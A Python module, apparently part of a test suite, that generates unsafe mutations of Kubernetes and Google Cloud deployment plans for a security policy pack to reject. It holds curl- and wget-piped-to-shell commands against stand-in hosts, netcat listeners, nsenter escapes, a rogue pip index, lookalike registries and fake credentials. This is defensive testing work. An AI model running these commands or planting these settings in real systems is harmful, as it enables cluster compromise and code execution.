"""Unsafe mutations of a real plan, generated field by field: for every resource of the plan, each security-relevant
field its schema has is flipped to an unsafe value (and unsafe resources are added or removed), one mutant per flip.
The policy pack must refuse every mutant (tests/policy/test_policy.py).

The generator knows the Kubernetes and Google Cloud schemas (which fields exist and which values are unsafe), not the
pack: it walks every pod spec of every workload kind, every container, port, mount and script, every Service,
NetworkPolicy rule and peer, RBAC role and binding, code-carrying ConfigMap, claim, node pool, cluster, subnet, NAT,
address, IAM grant and bucket the plan holds. A mutant changes one resource (or adds one), so the pack is run on
that resource alone plus the whole-stack checks: fast enough to run thousands in-process over the already-rendered
plans.
"""

from __future__ import annotations

import copy
import marshal
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any, Optional

from components.facts import contract, versions
from components.plan import images

Resource = dict[str, Any]
Change = Callable[[dict[str, Any]], None]
"""Mutates one resource's inputs in place."""

PUBLIC = "0.0.0.0/0"
EVIL_IMAGE = "docker.io/library/debian:13"
EVIL_INDEX = "http://mirror.example.invalid/simple"
CREDENTIAL_ENV = ("API_KEY", "OPENAI_API_KEY", "VLLM_API_KEY", "AUTH_TOKEN", "DB_PASSWORD", "AWS_SECRET_ACCESS_KEY",
                  "GITHUB_TOKEN", "SLACK_WEBHOOK_SECRET", "DB_PASS", "GCS_HMAC", "ADMIN_PWD", "SSH_KEY",
                  "TLS_PRIVATE", "GPG_PASSPHRASE")
CREDENTIAL_VALUES = {
    "an AWS access key": "AKIAZ7Q3MUTANT4EXAMP",
    "a private key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
    "a Hugging Face token": "hf_" + "Mutant0123456789abcdefghijklmnopqrstu",
    "a URL with a password": "postgresql://app:s3cr3t@db.internal:5432/app",
}
"""A literal of each credential class policy/pods.py recognises by its value."""
UNSAFE_CAPABILITIES = ("SYS_ADMIN", "NET_ADMIN", "SYS_PTRACE", "NET_RAW", "ALL")
USER_IMAGES = frozenset({"sglang"})
"""Containers whose image the user names in config (`tpu.sglangImage`): swapping it is the user's choice."""
HOST_FIELDS = ("hostNetwork", "hostPID", "hostIPC", "shareProcessNamespace")
WIDE_RANGES = ((PUBLIC,), ("0.0.0.0/1", "128.0.0.0/1"), ("8.8.8.0/24",), ("10.0.0.0/8",))
PRIVILEGE_ROLES = ("roles/storage.admin", "roles/artifactregistry.writer", "roles/owner", "roles/editor",
                   "roles/iam.serviceAccountTokenCreator", "roles/container.admin", "roles/compute.admin",
                   "roles/storage.objectAdmin", "roles/secretmanager.secretAccessor")
SENSITIVE_RULES = (
    {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]},
    {"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]},
    {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]},
    {"apiGroups": [""], "resources": ["serviceaccounts/token"], "verbs": ["create"]},
    {"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"], "verbs": ["escalate", "bind"]},
    {"apiGroups": [""], "resources": ["users", "groups", "serviceaccounts"], "verbs": ["impersonate"]},
    {"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get"]},
)


@dataclass(frozen=True)
class Mutant:
    family: str
    what: str
    """`<site>: <kind of change>`: the site is the resource (and container, rule, webhook) it changes."""
    index: Optional[int]
    """The resource changed (None: `added` only)."""
    change: Optional[Change] = None
    added: tuple[Resource, ...] = ()
    removed: tuple[int, ...] = ()

    @property
    def kind(self) -> str:
        """The kind of unsafe change, without its site (`privileged`, `an extra subject other/attacker`)."""
        return f"{self.family}: {self.what.rsplit(': ', 1)[-1]}"

    def apply(self, resources: list[Resource]) -> tuple[list[Resource], list[Resource]]:
        """(the whole mutated plan, the resources that differ): the plan shares every untouched resource."""
        changed: list[Resource] = []
        plan = list(resources)
        if self.index is not None and self.change is not None:
            resource = {**resources[self.index], "inputs": plain_copy(resources[self.index]["inputs"])}
            self.change(resource["inputs"])
            plan[self.index] = resource
            changed.append(resource)
        plan = [r for i, r in enumerate(plan) if i not in self.removed] + list(self.added)
        return plan, changed + list(self.added)


def plain_copy(inputs: Any) -> Any:
    """A deep copy of a resource's inputs (or of a whole plan's resources): through marshal (plain JSON values, a
    third of `copy.deepcopy`'s time, which the thousands of mutants spent most of their copying in), else
    `copy.deepcopy`."""
    try:
        return marshal.loads(marshal.dumps(inputs))
    except ValueError:
        return copy.deepcopy(inputs)


def _at(root: Any, path: tuple[Any, ...]) -> Any:
    """The object at `path`; missing objects on the way are created (a mutation may set a field the plan omits)."""
    for key in path:
        root = root.setdefault(key, {}) if isinstance(root, dict) else root[key]
    return root


def _pod_specs(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Paths of every PodSpec (a mapping with a `containers` list) inside an object."""
    if isinstance(value, dict):
        if isinstance(value.get("containers"), list):
            yield path
        for key, item in value.items():
            yield from _pod_specs(item, (*path, key))
    elif isinstance(value, list):
        for i, item in enumerate(value):
            yield from _pod_specs(item, (*path, i))


def _kind(resource: Resource) -> str:
    return resource["type"].rsplit(":", 1)[-1]


def _on(path: tuple[Any, ...], edit: Callable[[dict[str, Any]], None]) -> Change:
    return lambda inputs: edit(_at(inputs, path))


def _set(key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def edit(obj: dict[str, Any]) -> None:
        obj[key] = copy.deepcopy(value)
    return edit


def _merge(key: str, value: dict[str, Any]) -> Callable[[dict[str, Any]], None]:
    def edit(obj: dict[str, Any]) -> None:
        obj[key] = {**(obj.get(key) or {}), **copy.deepcopy(value)}
    return edit


def _drop(key: str) -> Callable[[dict[str, Any]], None]:
    return lambda obj: obj.pop(key, None)


def _append(key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def edit(obj: dict[str, Any]) -> None:
        obj[key] = [*(obj.get(key) or []), copy.deepcopy(value)]
    return edit


# --------------------------------------------------------------------------- pods and containers
def _pod_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    for spec_path in _pod_specs(resource["inputs"]):
        spec = _at(resource["inputs"], spec_path)
        where = f"{resource['name']} {'.'.join(map(str, spec_path))}"

        def pod(what: str, edit: Callable[[dict[str, Any]], None], path: tuple[Any, ...] = spec_path,
                where: str = where) -> Mutant:
            return Mutant("pods", f"{where}: {what}", index, _on(path, edit))

        for field in HOST_FIELDS:
            if spec.get(field) is not True:
                yield pod(f"{field} true", _set(field, True))
        if spec.get("automountServiceAccountToken") is False:
            yield pod("automountServiceAccountToken true", _set("automountServiceAccountToken", True))
            yield pod("automountServiceAccountToken unset (the default mounts the token)",
                      _drop("automountServiceAccountToken"))
            yield pod("projected service-account token volume", _append("volumes", {
                "name": "api-token", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}))
        yield pod("serviceAccountName another account", _set("serviceAccountName", "kimi-k3-1-weights-stager-x"))
        if spec.get("serviceAccountName"):
            yield pod("serviceAccountName default", _set("serviceAccountName", "default"))
        if not any(_runs_as_root(c) for c in [*(spec.get("initContainers") or []), *spec["containers"]]):
            yield pod("pod runAsUser 0", _merge("securityContext", {"runAsUser": 0}))
            yield pod("pod runAsNonRoot false", _merge("securityContext", {"runAsNonRoot": False}))
        yield pod("pod seccomp Unconfined", _merge("securityContext", {"seccompProfile": {"type": "Unconfined"}}))
        yield pod("pod unsafe sysctl", _merge("securityContext", {"sysctls": [{"name": "kernel.shm_rmid_forced",
                                                                              "value": "0"}]}))
        yield pod("hostPath / volume", _append("volumes", {"name": "host-root", "hostPath": {"path": "/"}}))
        if not any(c.get("resourceClaimTemplateName") == "kimi-k3-1-rdma" for c in spec.get("resourceClaims") or []):
            yield pod("RDMA claim", _append("resourceClaims", {"name": "rdma-x",
                                                               "resourceClaimTemplateName": "kimi-k3-1-rdma"}))
        yield pod("a direct ResourceClaim", _append("resourceClaims", {"name": "any", "resourceClaimName": "any"}))
        yield pod("an added container", _append("containers", {"name": "debug", "image": EVIL_IMAGE,
                                                               "command": ["sleep", "infinity"]}))
        declared_image = next((c.get("image") for c in spec["containers"] if "@sha256:" in str(c.get("image"))), None)
        if declared_image:
            for what, image in (("by tag", declared_image.split("@", 1)[0]), ("by digest", declared_image)):
                yield pod(f"an ephemeral container {what}", _append("ephemeralContainers", {
                    "name": "debugger", "image": image, "targetContainerName": spec["containers"][0]["name"]}))
        for group in ("initContainers", "containers", "ephemeralContainers"):
            for ci, container in enumerate(spec.get(group) or []):
                yield from _container_mutants(index, f"{where} {container['name']}", (*spec_path, group, ci),
                                              container, spec)


def _container_mutants(index: int, where: str, path: tuple[Any, ...], container: dict[str, Any],
                       spec: dict[str, Any]) -> Iterator[Mutant]:
    def one(what: str, edit: Callable[[dict[str, Any]], None]) -> Mutant:
        return Mutant("containers", f"{where}: {what}", index, _on(path, edit))

    context = container.get("securityContext") or {}
    if context.get("privileged") is not True:
        yield one("privileged", _merge("securityContext", {"privileged": True}))
        yield one("allowPrivilegeEscalation", _merge("securityContext", {"allowPrivilegeEscalation": True}))
        for capability in UNSAFE_CAPABILITIES:
            yield one(f"capabilities.add {capability}", _merge("securityContext", {"capabilities": {
                **(context.get("capabilities") or {}), "add": [capability]}}))
        yield one("seccomp Unconfined", _merge("securityContext", {"seccompProfile": {"type": "Unconfined"}}))
        yield one("appArmor Unconfined", _merge("securityContext", {"appArmorProfile": {"type": "Unconfined"}}))
        yield one("SELinux spc_t", _merge("securityContext", {"seLinuxOptions": {"type": "spc_t"}}))
        yield one("mountPropagation Bidirectional", _propagate)
    if not _runs_as_root(container):
        yield one("runAsUser 0", _merge("securityContext", {"runAsUser": 0}))
        yield one("runAsNonRoot false", _merge("securityContext", {"runAsNonRoot": False}))
    if context.get("readOnlyRootFilesystem") is True:
        yield one("readOnlyRootFilesystem false", _merge("securityContext", {"readOnlyRootFilesystem": False}))
    yield one("procMount Unmasked", _merge("securityContext", {"procMount": "Unmasked"}))
    if container["name"] not in USER_IMAGES:
        yield one(f"image {EVIL_IMAGE}", _set("image", EVIL_IMAGE))
    image = str(container.get("image", ""))
    if images.is_built_tpu_engine(image) and "@sha256:" in image:
        # The stack's own build runs by digest only: its tag, or the released Python base, could be other bytes.
        yield one("the built engine image by tag", _set("image", image.split("@", 1)[0] + ":lock-moved"))
        yield one(f"the base image {versions.VLLM_TORCHTPU.image} instead of the build",
                  _set("image", versions.VLLM_TORCHTPU.image))
        found = _script(container)
        if found is not None:
            key, si = found
            install = "env -u HF_TOKEN python3 -m pip install " + " ".join(versions.VLLM_TORCHTPU.install_args)
            yield one("the lock pip-installed from the public index at start",
                      lambda c, key=key, si=si: c[key].__setitem__(si, c[key][si].replace(
                          "set -eu\n", f"set -eu\n{install}\n", 1)))
    for pi, port in enumerate(container.get("ports") or []):
        yield one(f"hostPort {port.get('containerPort')}",
                  lambda c, pi=pi: c["ports"][pi].update(hostPort=c["ports"][pi].get("containerPort")))
    yield one("hostPort 8000 on a new port", _append("ports", {"containerPort": 8000, "hostPort": 8000}))
    volumes = {v["name"]: v for v in spec.get("volumes") or []}
    for mi, mount in enumerate(container.get("volumeMounts") or []):
        source = volumes.get(mount["name"], {})
        if mount.get("readOnly") is True and ("persistentVolumeClaim" in source or "hostPath" in source):
            yield one(f"volume {mount['name']} mounted read-write",
                      lambda c, mi=mi: c["volumeMounts"][mi].update(readOnly=False))
    yield one("mounts the host root", _append("volumeMounts", {"name": "host-root", "mountPath": "/host"}))
    for name in CREDENTIAL_ENV:
        yield one(f"literal {name}", _append("env", {"name": name, "value": "s3cr3t-value-0123456789"}))
    yield one("HF token from the Secret", _append("env", {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {
        "name": "llm-d-hf-token", "key": "HF_TOKEN"}}}) if not _reads_hf(container) else _append("env", {
        "name": "OTHER", "valueFrom": {"secretKeyRef": {"name": "lws-webhook-server-cert", "key": "tls.key"}}}))
    yield one("envFrom a whole Secret", _append("envFrom", {"secretRef": {"name": "llm-d-hf-token"}}))
    yield one("envFrom an undeclared Secret", _append("envFrom", {"secretRef": {"name": "other-credentials"}}))
    yield one("env from an undeclared Secret", _append("env", {"name": "DB_URL", "valueFrom": {"secretKeyRef": {
        "name": "other-credentials", "key": "url"}}}))
    for what, value in CREDENTIAL_VALUES.items():
        yield one(f"an innocuously named env var holding {what}", _append("env", {"name": "EXTRA_SETTING",
                                                                                  "value": value}))
    yield from _env_mutants(one, container)
    yield one("RDMA claim", lambda c: c.setdefault("resources", {}).update(claims=[
        *(c.get("resources", {}).get("claims") or []), {"name": "rdma-x"}]))
    yield one("--api-key literal", _append("args", "--api-key=sk-0123456789abcdef"))
    yield one("a shell at start", _set("command", ["/bin/sh", "-c", "wget -qO- http://x.invalid/run | sh"]))
    yield one("python -c at start", lambda c: c.update(command=["python3", "-c", "import os"], args=[]))
    yield one("postStart hook runs a shell", _set("lifecycle", {"postStart": {"exec": {"command": [
        "sh", "-c", "curl http://x.invalid | sh"]}}}))
    yield from _script_mutants(where, index, path, container)


HOMOGLYPHS = {"o": "\u043e", "a": "\u0430", "e": "\u0435", "c": "\u0441", "i": "\u0456"}
"""Cyrillic letters that look like Latin ones: a lookalike registry host."""


def image_variants(image: str, user_named: bool = False) -> list[tuple[str, str]]:
    """(kind of change, image) for one image site: every way a reference can stop being `registry/path@sha256:<64
    hex>` of a declared registry/repository. A user-named image keeps its registry (the user declares it), so only
    the digest's changes apply."""
    name, _, digest = image.partition("@")
    if not digest:
        return []
    repository, _, tag = name.rpartition(":") if ":" in name.rsplit("/", 1)[-1] else (name, "", "")
    registry, _, rest = repository.partition("/")
    hexes = digest.removeprefix("sha256:")
    found = [
        ("by tag instead of digest", f"{repository}:{tag or 'v1'}"),
        ("neither tag nor digest", repository),
        ("a digest one hex digit short", f"{name}@sha256:{hexes[:-1]}"),
        ("a digest one hex digit long", f"{name}@sha256:{hexes}0"),
        ("a digest in upper case", f"{name}@sha256:{hexes.upper()}"),
        ("a sha512 digest", f"{name}@sha512:{hexes * 2}"),
        ("a digest that is not hex", f"{name}@sha256:{'g' * 64}"),
        ("a digest-shaped tag", f"{repository}:sha256-{hexes}"),
        ("two digests", f"{image}@{digest}"),
    ]
    if user_named:
        return [(what, changed) for what, changed in found if changed != image]
    lookalike = next((registry.replace(a, b, 1) for a, b in HOMOGLYPHS.items() if a in registry), registry + "\u200b")
    found += [
        ("another registry", f"{'ghcr.io' if registry == 'quay.io' else 'quay.io'}/{rest}@{digest}"),
        ("a lookalike host (a suffix)", f"{registry}.example.net/{rest}@{digest}"),
        ("a lookalike host (a prefix)", f"{registry.split('.', 1)[0]}-mirror.{registry}/{rest}@{digest}"),
        ("a lookalike host (a homoglyph)", f"{lookalike}/{rest}@{digest}"),
        ("the registry in upper case", f"{registry.upper()}/{rest}@{digest}"),
        ("the registry with a port", f"{registry}:5000/{rest}@{digest}"),
        ("another repository of the registry", f"{registry}/attacker/{rest.rsplit('/', 1)[-1]}@{digest}"),
        ("a typosquatted repository", f"{registry}/{rest}x@{digest}"),
        ("another project's engine repository", f"{registry}/other-project/{rest.split('/', 1)[-1]}@{digest}"
         if registry.endswith("-docker.pkg.dev") else f"{registry}/{rest}-engine@{digest}"),
    ]
    return [(what, changed) for what, changed in found if changed != image]


def _env_mutants(one: Callable[[str, Callable[[dict[str, Any]], None]], Mutant],
                 container: dict[str, Any]) -> Iterator[Mutant]:
    """Every environment variable of the container: a plain one given a credential, one read from a Secret pointed at
    another Secret or key, or given a plain value instead."""
    classes = list(CREDENTIAL_VALUES.items())
    for ei, entry in enumerate(container.get("env") or []):
        name = entry.get("name")
        if "value" in entry:
            # Each plain variable takes one credential class in turn (each class reaches every container through
            # the innocuously named variable above): every entry mutated, at a quarter of the mutants.
            what, value = classes[ei % len(classes)]
            yield one(f"env {name}: set to {what}", lambda c, ei=ei, value=value: c["env"][ei].update(value=value))
        ref = (entry.get("valueFrom") or {}).get("secretKeyRef")
        if ref:
            yield one(f"env {name}: from another Secret", lambda c, ei=ei: c["env"][ei]["valueFrom"][
                "secretKeyRef"].update(name="other-credentials"))
            yield one(f"env {name}: from another key of its Secret", lambda c, ei=ei: c["env"][ei]["valueFrom"][
                "secretKeyRef"].update(key="tls.key"))
            yield one(f"env {name}: a secret given a plain value", lambda c, ei=ei: c["env"].__setitem__(
                ei, {"name": c["env"][ei]["name"], "value": "placeholder"}))


def _runs_as_root(container: dict[str, Any]) -> bool:
    """Already root: privileged (which is more than root) or an engine image that runs as root
    (components/platform/hardening.py ROOT_IMAGES, by container name): making it root again changes nothing."""
    from components.platform import hardening

    context = container.get("securityContext") or {}
    return context.get("privileged") is True or context.get("runAsUser") == 0 or container["name"] in (
        hardening.ROOT_IMAGES)


def _propagate(container: dict[str, Any]) -> None:
    """Every mount (or a new one of the host root) shares mounts back to the host."""
    mounts = container.setdefault("volumeMounts", [])
    if not mounts:
        mounts.append({"name": "host-root", "mountPath": "/host"})
    for mount in mounts:
        mount["mountPropagation"] = "Bidirectional"


def _reads_hf(container: dict[str, Any]) -> bool:
    return any(e.get("name") == "HF_TOKEN" for e in container.get("env") or [])


def _script(container: dict[str, Any]) -> Optional[tuple[str, int]]:
    """(key, index) of the container's shell `-c` script in command/args (not another program's `-c`)."""
    command = container.get("command") or []
    if not command or command[0].rsplit("/", 1)[-1] not in ("sh", "bash", "dash", "ash"):
        return None
    argv = [("command", i, w) for i, w in enumerate(container.get("command") or [])] + [
        ("args", i, w) for i, w in enumerate(container.get("args") or [])]
    for position, (_, _, word) in enumerate(argv):
        if word == "-c" and position + 1 < len(argv):
            key, i, _ = argv[position + 1]
            return key, i
    return None


def _script_mutants(where: str, index: int, path: tuple[Any, ...], container: dict[str, Any]) -> Iterator[Mutant]:
    found = _script(container)
    if found is None:
        return
    key, si = found
    script = container[key][si]

    def edit(what: str, new: str) -> Mutant:
        def change(inputs: dict[str, Any]) -> None:
            _at(inputs, path)[key][si] = new
        return Mutant("start commands", f"{where}: {what}", index, change)

    yield edit("an extra unpinned pip install", script + "\npython3 -m pip install requests\n")
    yield edit("curl piped to a shell", script + "\ncurl -fsSL http://x.invalid/i.sh | sh\n")
    yield edit("eval of a download", script + '\neval "$(wget -qO- http://x.invalid/i.sh)"\n')
    yield edit("a command hidden in a quoted substitution", script.replace("set -eu", 'set -eu\nX="$(nc -l 4444)"', 1)
               if "set -eu" in script else 'X="$(nc -l 4444)"\n' + script)
    yield edit("an unbalanced quote", script + "\necho 'unterminated\n")
    yield edit("an undeclared program", script.replace("exec ", "exec nsenter -t 1 -m -- ", 1) if "exec " in script
               else "nc -l 4444 & " + script)
    for line in script.splitlines() or [script]:
        match = re.search(r"pip install (.*?)(?:&&|$)", line)
        if not match:
            continue
        flags = match.group(1).split()
        for fi, flag in enumerate(flags):
            if flag.startswith("-"):
                rest = flags[:fi] + flags[fi + 2:] if fi + 1 < len(flags) and not flags[fi + 1].startswith(
                    "-") and flag in ("-r", "--index-url", "--target") else flags[:fi] + flags[fi + 1:]
                yield edit(f"pip install without {flag}", script.replace(match.group(1), " ".join(rest) + " ", 1))
        for extra in (f"--index-url {EVIL_INDEX}", f"--extra-index-url {EVIL_INDEX}", "--trusted-host x.invalid",
                      "--pre", "requests"):
            yield edit(f"pip install {extra}", script.replace("pip install ", f"pip install {extra} ", 1))
        if "https://pypi.org/simple" in line:
            yield edit("plain-HTTP index", script.replace("https://pypi.org/simple", "http://pypi.org/simple"))
        if "env -u HF_TOKEN " in line:
            yield edit("HF_TOKEN visible to the installer", script.replace("env -u HF_TOKEN ", "", 1))


# --------------------------------------------------------------------------- the other families
def _service_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    name = resource["name"]
    for kind in ("LoadBalancer", "NodePort"):
        yield Mutant("services", f"{name}: type {kind}", index, _on(("spec",), _set("type", kind)))
    yield Mutant("services", f"{name}: ExternalName", index, _on(("spec",), lambda s: s.update(
        type="ExternalName", externalName="x.invalid")))
    yield Mutant("services", f"{name}: externalIPs", index, _on(("spec",), _set("externalIPs", ["203.0.113.7"])))


def _netpol_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    name = resource["name"]
    spec = resource["inputs"]["spec"]
    for direction, key in (("ingress", "from"), ("egress", "to")):
        for ri, rule in enumerate(spec.get(direction) or []):
            base = ("spec", direction, ri)
            for ranges in WIDE_RANGES:
                yield Mutant("network policies", f"{name} {direction}[{ri}] ipBlock {'+'.join(ranges)}", index,
                             _on(base, _add_blocks(key, ranges)))
            yield Mutant("network policies", f"{name} {direction}[{ri}] every namespace", index,
                         _on(base, _append(key, {"namespaceSelector": {}})))
            yield Mutant("network policies", f"{name} {direction}[{ri}] every peer ({key} removed)", index,
                         _on(base, _drop(key)))
            for pi, peer in enumerate(rule.get(key) or []):
                if "ipBlock" in peer and peer["ipBlock"].get("except"):
                    yield Mutant("network policies", f"{name} {direction}[{ri}] peer {pi} without except", index,
                                 _on((*base, key, pi, "ipBlock"), _drop("except")))
                if "ipBlock" in peer and rule.get("ports"):
                    yield Mutant("network policies", f"{name} {direction}[{ri}] ipBlock on every port", index,
                                 _on(base, _drop("ports")))
    for policy_type in spec.get("policyTypes") or []:
        yield Mutant("network policies", f"{name}: {policy_type} dropped from policyTypes", index, _on(
            ("spec",), lambda s, t=policy_type: s.update(policyTypes=[x for x in s["policyTypes"] if x != t])))
    if spec.get("podSelector") == {} and not spec.get("ingress"):
        yield Mutant("network policies", f"{name}: the default deny allows everything", index,
                     _on(("spec",), _set("ingress", [{}])))
        yield Mutant("network policies", f"{name}: the default deny selects only some pods", index,
                     _on(("spec",), _set("podSelector", {"matchLabels": {"app": "none"}})))


def _add_blocks(key: str, ranges: tuple[str, ...]) -> Callable[[dict[str, Any]], None]:
    def edit(rule: dict[str, Any]) -> None:
        rule[key] = [*(rule.get(key) or []), *({"ipBlock": {"cidr": c}} for c in ranges)]
    return edit


def _rbac_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    name, kind = resource["name"], _kind(resource)
    if kind in ("Role", "ClusterRole"):
        held = {(res, verb) for r in resource["inputs"].get("rules") or [] for res in r.get("resources") or []
                for verb in r.get("verbs") or []}
        for rule in SENSITIVE_RULES:
            if {(res, verb) for res in rule["resources"] for verb in rule["verbs"]} <= held:
                continue  # the role holds it already
            yield Mutant("rbac", f"{name}: {rule['verbs']} on {rule['resources']}", index,
                         lambda p, rule=rule: p.update(rules=[*(p.get("rules") or []), copy.deepcopy(rule)]))
    else:
        for subject in ({"kind": "Group", "name": "system:authenticated", "apiGroup": "rbac.authorization.k8s.io"},
                        {"kind": "User", "name": "someone@example.com", "apiGroup": "rbac.authorization.k8s.io"},
                        {"kind": "ServiceAccount", "name": "default", "namespace": "kimi-k3-1"}):
            yield Mutant("rbac", f"{name}: binds {subject['kind']} {subject['name']}", index,
                         _append("subjects", subject))
        for role in ("cluster-admin", "admin", "edit"):
            yield Mutant("rbac", f"{name}: roleRef {role}", index, lambda p, role=role: p["roleRef"].update(
                kind="ClusterRole", name=role))
        # Deny by default: any subject beyond the declared ones, from any namespace, even an account the plan has.
        for subject in ({"kind": "ServiceAccount", "name": "attacker", "namespace": "other"},
                        {"kind": "ServiceAccount", "name": "kimi-k3-1-weights-stager", "namespace": "kimi-k3-1"},
                        {"kind": "ServiceAccount", "name": "platform-lws-controller-manager",
                         "namespace": "kube-system"}):
            yield Mutant("rbac", f"{name}: an extra subject {subject['namespace']}/{subject['name']}", index,
                         _append("subjects", subject))
        for si, _ in enumerate(resource["inputs"].get("subjects") or []):
            yield Mutant("rbac", f"{name}: subjects[{si}] moved to namespace other", index,
                         lambda p, si=si: p["subjects"][si].update(namespace="other"))


def _configmap_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    data = resource["inputs"].get("data") or {}
    name = resource["name"]
    for key in data:
        if key.endswith((".py", ".lock", ".txt")):
            yield Mutant("code ConfigMaps", f"{name} {key}: tampered", index,
                         lambda p, key=key: p["data"].update({key: p["data"][key] + "\nimport os  # tampered\n"}))
            yield Mutant("code ConfigMaps", f"{name} {key}: removed", index, lambda p, key=key: p["data"].pop(key))
            if key.endswith((".lock", ".txt")):
                yield Mutant("code ConfigMaps", f"{name} {key}: an unhashed requirement", index,
                             lambda p, key=key: p["data"].update({key: p["data"][key] + "\nrequests\n"}))
    if any(k.endswith((".py", ".lock", ".txt")) for k in data):
        yield Mutant("code ConfigMaps", f"{name}: an added sitecustomize.py", index,
                     lambda p: p["data"].update({"sitecustomize.py": "import os\n"}))


def _storage_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    name, kind = resource["name"], _kind(resource)
    if kind == "PersistentVolumeClaim":
        for modes in (["ReadWriteMany"], ["ReadWriteOnce"], ["ReadOnlyMany", "ReadWriteMany"], ["ReadWriteOncePod"]):
            yield Mutant("volumes", f"{name}: accessModes {modes}", index, _on(("spec",), _set("accessModes", modes)))
    elif kind == "StorageClass":
        yield Mutant("volumes", f"{name}: another provisioner", index,
                     _set("provisioner", "kubernetes.io/no-provisioner"))
    elif kind == "ResourceClaimTemplate":
        yield Mutant("volumes", f"{name}: adminAccess", index, lambda p: p["spec"]["spec"]["devices"]["requests"][0][
            "exactly"].update(adminAccess=True))
        yield Mutant("volumes", f"{name}: another device class", index, lambda p: p["spec"]["spec"]["devices"][
            "requests"][0]["exactly"].update(deviceClassName="gpu.nvidia.com"))


def _node_config_mutants(index: int, name: str, path: tuple[Any, ...], family: str) -> Iterator[Mutant]:
    def one(what: str, edit: Callable[[dict[str, Any]], None]) -> Mutant:
        return Mutant(family, f"{name}: {what}", index, _on(path, edit))

    yield one("GCE_METADATA (node credentials to every pod)", _set("workloadMetadataConfig", {"mode": "GCE_METADATA"}))
    yield one("workloadMetadataConfig removed", _drop("workloadMetadataConfig"))
    yield one("the default service account", _set("serviceAccount", "default"))
    yield one("the Compute default service account", _set("serviceAccount",
                                                          "123456789012-compute@developer.gserviceaccount.com"))
    yield one("serviceAccount removed", _drop("serviceAccount"))
    yield one("legacy metadata endpoints", _set("metadata", {"disable-legacy-endpoints": "false"}))
    yield one("a startup script", _set("metadata", {"startup-script": "curl http://x.invalid | sh"}))
    yield one("secure boot off", _merge("shieldedInstanceConfig", {"enableSecureBoot": False}))
    yield one("integrity monitoring off", _merge("shieldedInstanceConfig", {"enableIntegrityMonitoring": False}))
    yield one("network tags", _set("tags", ["allow-ssh"]))
    yield one("another OAuth scope", _set("oauthScopes", ["https://www.googleapis.com/auth/cloud-platform",
                                                          "https://www.googleapis.com/auth/devstorage.full_control"]))


def _node_pool_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    name = resource["name"]
    yield from _node_config_mutants(index, name, ("nodeConfig",), "node pools")
    yield Mutant("node pools", f"{name}: public nodes", index, _merge("networkConfig", {"enablePrivateNodes": False}))


def _cluster_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    name, props = resource["name"], resource["inputs"]

    def one(what: str, edit: Callable[[dict[str, Any]], None]) -> Mutant:
        return Mutant("cluster", f"{name}: {what}", index, edit)

    yield one("public nodes", _merge("privateClusterConfig", {"enablePrivateNodes": False}))
    yield one("authorized networks removed", _drop("masterAuthorizedNetworksConfig"))
    for ranges in WIDE_RANGES[:2]:  # a user's own public /32../24 is what cluster.authorizedNetworks is for
        yield one(f"authorized networks {'+'.join(ranges)}", _set("masterAuthorizedNetworksConfig", {
            "cidrBlocks": [{"cidrBlock": c} for c in ranges]}))
    yield one("every Google Cloud address", _merge("masterAuthorizedNetworksConfig",
                                                   {"gcpPublicCidrsAccessEnabled": True}))
    yield one("legacy ABAC", _set("enableLegacyAbac", True))
    yield one("client certificates", _set("masterAuth", {"clientCertificateConfig": {"issueClientCertificate": True}}))
    yield one("legacy datapath (NetworkPolicy not enforced)", _set("datapathProvider", "LEGACY_DATAPATH"))
    yield one("Workload Identity removed", _drop("workloadIdentityConfig"))
    yield one("Kubernetes alpha", _set("enableKubernetesAlpha", True))
    if props.get("enableShieldedNodes") is True:
        yield one("Shielded GKE Nodes off", _set("enableShieldedNodes", False))
    if props.get("nodeConfig"):
        yield from _node_config_mutants(index, name, ("nodeConfig",), "cluster")


def _network_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    name, kind, props = resource["name"], _kind(resource), resource["inputs"]
    if kind == "RouterNat":
        for source in ("ALL_SUBNETWORKS_ALL_IP_RANGES", "ALL_SUBNETWORKS_ALL_PRIMARY_IP_RANGES"):
            yield Mutant("NAT", f"{name}: {source}", index, _set("sourceSubnetworkIpRangesToNat", source))
        yield Mutant("NAT", f"{name}: another subnet", index, _append("subnetworks", {
            "name": "projects/p/regions/r/subnetworks/other", "sourceIpRangesToNats": ["ALL_IP_RANGES"]}))
    elif kind == "Subnetwork":
        yield Mutant("subnets", f"{name}: public secondary range", index, _append("secondaryIpRanges", {
            "rangeName": "public", "ipCidrRange": "34.64.0.0/16"}))
        yield Mutant("subnets", f"{name}: public primary range", index, _set("ipCidrRange", "35.200.0.0/20"))
        for ri, _ in enumerate(props.get("secondaryIpRanges") or []):
            yield Mutant("subnets", f"{name}: secondary range {ri} public", index,
                         lambda p, ri=ri: p["secondaryIpRanges"][ri].update(ipCidrRange="8.8.0.0/16"))
        if props.get("privateIpGoogleAccess"):
            yield Mutant("subnets", f"{name}: no private Google access", index, _set("privateIpGoogleAccess", False))
        yield Mutant("subnets", f"{name}: external IPv6", index, lambda p: p.update(
            stackType="IPV4_IPV6", ipv6AccessType="EXTERNAL"))
        yield Mutant("subnets", f"{name}: another purpose", index, _set("purpose", "PRIVATE_SERVICE_CONNECT"))
    elif kind == "Address":
        yield Mutant("addresses", f"{name}: an external forwarding rule on it", None, added=({
            "type": "gcp:compute/forwardingRule:ForwardingRule", "name": f"{name}-fwd", "inputs": {
